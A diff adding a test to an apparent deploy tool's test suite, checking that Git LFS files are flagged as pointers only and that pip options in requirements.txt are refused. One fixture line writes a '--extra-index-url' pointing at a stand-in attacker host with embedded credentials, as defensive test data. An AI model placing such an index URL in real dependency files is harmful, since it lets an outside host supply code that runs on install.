@@ -151,6 +151,14 @@ describeInLab('what goes wrong with code and image has its name, its remedy and 
   })
 
   test('and when all of it is mended, the deploy goes through', async () => {
-    await floor.done('deploy acme/staging')
+    floor.addons.write('.gitattributes', '*.psd filter=lfs diff=lfs merge=lfs -text\n')
+    floor.addons.write('requirements.txt', '--extra-index-url http://me:secret@evil.example/\n').push('More')
+    const pointers = 'acme keeps files in Git LFS, which I do not fetch: of *.psd only the pointers are deployed'
+    expect((await floor.says('plan acme/staging')).text).toContain(pointers)
+    const lines = (await floor.done('deploy acme/staging')).lines.join('\n')
+    expect(lines).toContain(`cloning_repo warning ${pointers}`)
+    expect(lines).toContain(
+      'installing_dependencies warning Not taken of acme: requirements.txt: --extra-index-url http://evil.example/: options of pip are not taken',
+    )
   })
 })
